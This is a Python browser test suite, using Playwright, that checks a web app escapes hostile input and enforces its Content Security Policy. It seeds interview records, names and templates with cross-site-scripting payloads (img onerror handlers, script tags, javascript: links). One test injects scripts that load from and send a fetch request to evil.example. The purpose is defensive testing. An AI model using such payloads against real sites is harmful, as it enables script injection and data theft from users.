"""Every page in Chromium, with hostile words wherever people put words: none forbidden, none run."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import httpx2
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect

from athena.bank.loader import load_bank
from athena.bank.paths import DEFAULT_FOLDER
from athena.domain.access import COOKIE, LOCAL, PAGES, Role
from athena.domain.audit import Action, Outcome
from athena.domain.interview import Channel, InterviewPlan, SessionStatus, Speaker
from athena.domain.people import Employee
from athena.domain.templates import Contact, Template
from athena.services.auditing import Auditing
from athena.services.evaluation import offline_evaluator
from athena.services.interviewing import Interviewing, TurnHeard
from athena.services.inviting import Inviting
from athena.services.records import utc_now
from athena.services.templates import Templates
from athena.store import employees
from athena.store.database import Database
from tests.browser.conftest import watch_policy
from tests.browser.serving import ROOT, serving
from tests.browser.walking import START_MS, Requests
from tests.web.people import IDS, PASSWORD, add_people, sign_in

pytestmark = [pytest.mark.browser]
HURT = '<img src=x onerror="window.hurt=1"><script>window.hurt=1</script>'
CALLS_OUT = "![x](https://evil.example/x.png) [l](javascript:window.hurt=1) $\\href{https://evil.example}{x}$"
NAME = "<img src=x onerror=window.hurt=1> ![x](https://evil.example/n)"
THERE = [page for page in PAGES if page and (ROOT / "pages" / f"{page}.py").is_file()]


def hostile_interview(location: str) -> str:
    """Store an ended interview of somebody who put code wherever words are taken, and return its id."""
    database, bank = Database.open(location), load_bank(DEFAULT_FOLDER)
    use = Interviewing(database, bank, evaluator=offline_evaluator(bank))
    with database.transaction() as tx:  # nobody is admitted by such a name: it came another way
        employees.add(tx, Employee("E1", NAME, NAME, NAME), utc_now())
    session_id = use.open_session("E1", InterviewPlan(question_count=1), "embedded", "m").session_id
    question = next(iter(bank.questions.values()))
    asked = f"{HURT} {question.prompt} {CALLS_OUT}"
    answer = f"{question.reference_answer} {HURT} {CALLS_OUT}"
    use.log_question_asked(session_id, "q", asked, question.category, question.difficulty)
    for number, (speaker, text) in enumerate(((Speaker.INTERVIEWER, asked), (Speaker.CANDIDATE, answer))):
        use.record_turn(session_id, TurnHeard(str(speaker), speaker, text, Channel.TEXT, number, number + 1))
    use.close(session_id, SessionStatus.COMPLETED)
    invite(database)
    database.close()
    return session_id


def invite(database: Database) -> None:
    """Invite that person by a template whose name and contact are code, and note a failure of such a name."""
    audit = Auditing(database)
    wanted = Template(NAME, Contact(NAME, "kim@example.org"))
    template = Templates(database, audit).create(LOCAL, wanted)
    Inviting(database, audit).create(LOCAL, template.template_id, ["E1"])
    audit.note(None, Action.SIGN_IN, NAME, outcome=Outcome.REFUSED, detail={"how": HURT})


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """The address of a server with a hostile interview, and the id of that."""
    folder = tmp_path_factory.mktemp("policy")
    path = folder / "athena.duckdb"
    add_people(path)
    session_id = hostile_interview(f"duckdb:///{path}")
    environment = {"ATHENA_MODE": "accounts", "DATABASE_URL": f"duckdb:///{path}"}
    with serving("app.py", folder / "server.log", environment) as base:
        yield base, session_id


@pytest.fixture(scope="module")
def browser(launch: Callable[..., Browser], session: tuple[str, str]) -> BrowserContext:
    """The browser of an administrator, who sees every page."""
    return administrators(launch(), session[0])


def administrators(browser: Browser, base: str) -> BrowserContext:
    with httpx2.Client(base_url=base, timeout=30) as visitor:
        assert sign_in(visitor, IDS[Role.ADMIN], PASSWORD).status_code == 303
        token = visitor.cookies[COOKIE]
    context = browser.new_context()
    context.add_cookies([{"name": COOKIE, "value": token, "url": base}])
    return context


def shown(page: Page, address: str) -> None:
    """Open a page and wait until its script has run."""
    page.goto(address)
    done = page.locator("[data-testid='stApp'][data-test-script-state='notRunning']")
    expect(done).to_be_visible(timeout=START_MS)
    expect(page.get_by_role("heading", level=1).first).to_be_visible(timeout=START_MS)


def unharmed(page: Page, requests: Requests) -> None:
    """Fail when words of somebody became part of the page, ran, or called out."""
    assert page.evaluate("window.hurt") is None
    assert page.locator("img[src='x'], a[href^='javascript'], [src*='evil'], [href*='evil']").count() == 0
    assert requests.outside == []


@pytest.mark.parametrize("name", ["", *THERE])
def test_a_page_does_only_what_its_policy_allows(
    browser: BrowserContext, session: tuple[str, str], name: str
) -> None:
    page = browser.new_page()
    requests, forbidden = Requests(page), list[str]()
    watch_policy(browser, forbidden)
    page.on("pageerror", lambda error: forbidden.append(str(error)))
    shown(page, f"{session[0]}/{name}")
    unharmed(page, requests)
    page.close()
    assert forbidden == []


def test_the_words_of_an_interview_stay_words(browser: BrowserContext, session: tuple[str, str]) -> None:
    page = browser.new_page()
    requests = Requests(page)
    shown(page, f"{session[0]}/sessions?session={session[1]}")
    words = page.get_by_text('<img src=x onerror="window.hurt=1">').filter(visible=True)
    expect(words.first).to_be_visible(timeout=START_MS)
    unharmed(page, requests)
    page.close()


def test_a_tables_own_button_for_csv_is_not_shown(browser: BrowserContext, session: tuple[str, str]) -> None:
    page = browser.new_page()
    shown(page, f"{session[0]}/audit")
    tools = page.get_by_test_id("stElementToolbarButton")
    labelled = "[aria-label='{}']".format
    search = tools.filter(has=page.locator(labelled("Search"))).first
    own = tools.filter(has=page.locator(labelled("Download as CSV"))).first
    expect(search).not_to_have_css("display", "none", timeout=START_MS)
    expect(own).to_have_css("display", "none", timeout=START_MS)
    page.close()


def test_a_script_that_got_into_a_page_does_not_run(
    playwright: Playwright, chromium_path: str, session: tuple[str, str]
) -> None:
    forbidden: list[str] = []
    with playwright.chromium.launch(executable_path=chromium_path, args=["--no-sandbox"]) as browser:
        browser.on("context", lambda context: watch_policy(context, forbidden))
        page = administrators(browser, session[0]).new_page()
        shown(page, f"{session[0]}/questions")
        page.evaluate(
            """() => {
                document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.hurt=1">');
                const script = document.createElement("script");
                script.textContent = "window.hurt=2";
                document.body.append(script);
                const far = document.createElement("script");
                far.src = "https://evil.example/x.js";
                document.body.append(far);
                fetch("https://evil.example/take?it").catch(() => {});
                setTimeout("window.hurt=3", 0);
            }"""
        )
        page.wait_for_timeout(200)
        assert page.evaluate("window.hurt") is None
    for directive in ("script-src", "connect-src"):
        assert any(directive in told for told in forbidden), forbidden
